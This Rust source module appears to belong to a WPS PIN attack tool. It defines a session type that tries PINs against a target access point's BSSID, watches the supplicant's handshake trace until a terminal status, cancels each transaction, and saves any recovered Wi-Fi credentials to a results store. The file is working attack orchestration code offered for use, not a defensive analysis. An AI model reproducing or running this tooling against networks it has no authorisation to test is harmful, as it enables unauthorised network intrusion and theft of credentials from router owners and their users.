//! One PIN attempt, end to end.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::{Duration, Instant};

use tracing::{error, info, warn};

use crate::control::{self, TraceRead, WpsEngine};
use crate::detector::HandshakeClassifier;
use crate::domain::{AttackOutcome, HandshakeParameters, MacAddress};
use crate::error::{AttackError, ControlError};
use crate::reporter::{AttackReporter, NullReporter, Severity};
use crate::store::{CredentialRecord, ResultStore};

/// Granularity of trace reads, and so of interrupt checks.
pub const POLL_INTERVAL: Duration = Duration::from_millis(200);

const DEFAULT_TIMEOUT: Duration = Duration::from_secs(30);

/// Drives single PIN attempts against one engine.
///
/// Each attempt resets the classifier, registers the PIN, pumps the
/// trace until a terminal status and always cancels the transaction.
pub struct AttackSession<E: WpsEngine> {
    engine: E,
    classifier: HandshakeClassifier,
    reporter: Box<dyn AttackReporter>,
    results: Option<ResultStore>,
    stop: Arc<AtomicBool>,
    timeout: Duration,
}

impl<E: WpsEngine> AttackSession<E> {
    pub fn new(engine: E, interface: &str) -> Self {
        Self {
            engine,
            classifier: HandshakeClassifier::new(interface),
            reporter: Box::new(NullReporter),
            results: None,
            stop: Arc::new(AtomicBool::new(false)),
            timeout: DEFAULT_TIMEOUT,
        }
    }

    pub fn with_reporter(mut self, reporter: Box<dyn AttackReporter>) -> Self {
        self.reporter = reporter;
        self
    }

    /// Append recovered credentials to these reports.
    pub fn with_results(mut self, results: ResultStore) -> Self {
        self.results = Some(results);
        self
    }

    pub fn with_stop_flag(mut self, stop: Arc<AtomicBool>) -> Self {
        self.stop = stop;
        self
    }

    /// Longest trace silence tolerated within one attempt.
    pub fn with_timeout(mut self, timeout: Duration) -> Self {
        self.timeout = timeout;
        self
    }

    pub fn engine(&self) -> &E {
        &self.engine
    }

    pub fn reporter(&self) -> &dyn AttackReporter {
        self.reporter.as_ref()
    }

    /// Handshake parameters captured during the last attempt.
    pub fn params(&self) -> &HandshakeParameters {
        self.classifier.params()
    }

    pub fn stop_requested(&self) -> bool {
        self.stop.load(Ordering::SeqCst)
    }

    /// Sleep for `duration` in poll-sized slices.
    pub fn pause(&self, duration: Duration) -> Result<(), AttackError> {
        let deadline = Instant::now() + duration;
        loop {
            if self.stop_requested() {
                return Err(AttackError::Interrupted);
            }
            let now = Instant::now();
            if now >= deadline {
                return Ok(());
            }
            thread::sleep(POLL_INTERVAL.min(deadline - now));
        }
    }

    /// Test `pin` against `bssid`.
    pub fn attempt(&mut self, bssid: MacAddress, pin: &str) -> Result<AttackOutcome, AttackError> {
        if self.stop_requested() {
            return Err(AttackError::Interrupted);
        }

        self.classifier.reset();
        self.engine.drain();
        self.reporter.on_attempt(control::pin_argument(pin));
        info!("Trying PIN '{}' against {}", control::pin_argument(pin), bssid);

        let transaction = self.run_transaction(bssid, pin);
        self.cancel_transaction();
        let closed = transaction?;

        let outcome = AttackOutcome::from_status(bssid, pin, self.classifier.status())
            .with_trace_closed(closed);
        if outcome.success {
            self.reporter.on_credentials(&outcome);
            self.save_result(&outcome);
        }
        Ok(outcome)
    }

    /// Returns true when the trace closed before a terminal status.
    fn run_transaction(&mut self, bssid: MacAddress, pin: &str) -> Result<bool, AttackError> {
        control::register_pin(&mut self.engine, bssid, pin)?;

        let mut idle = Duration::ZERO;
        loop {
            if self.stop_requested() {
                return Err(AttackError::Interrupted);
            }

            match self.engine.next_line(POLL_INTERVAL) {
                TraceRead::Line(line) => {
                    idle = Duration::ZERO;
                    if let Some(event) = self.classifier.classify(&line)? {
                        self.reporter.on_event(&event);
                    }
                    if self.classifier.is_finished() {
                        return Ok(false);
                    }
                }
                TraceRead::Pending => {
                    idle += POLL_INTERVAL;
                    if idle >= self.timeout {
                        return Err(ControlError::Timeout(self.timeout).into());
                    }
                }
                TraceRead::Closed => {
                    warn!("Supplicant trace closed during attempt");
                    return Ok(true);
                }
            }
        }
    }

    fn cancel_transaction(&mut self) {
        if let Err(e) = control::cancel(&mut self.engine) {
            warn!("Failed to cancel WPS transaction: {}", e);
        }
    }

    fn save_result(&self, outcome: &AttackOutcome) {
        let Some(results) = &self.results else {
            return;
        };
        match results.append(&CredentialRecord::from_outcome(outcome)) {
            Ok(()) => self.reporter.notice(
                Severity::Success,
                &format!("Credentials saved to {}", results.text_path().display()),
            ),
            Err(e) => {
                error!("Failed to save results: {}", e);
                self.reporter
                    .notice(Severity::Error, &format!("Failed to save results: {}", e));
            }
        }
    }
}
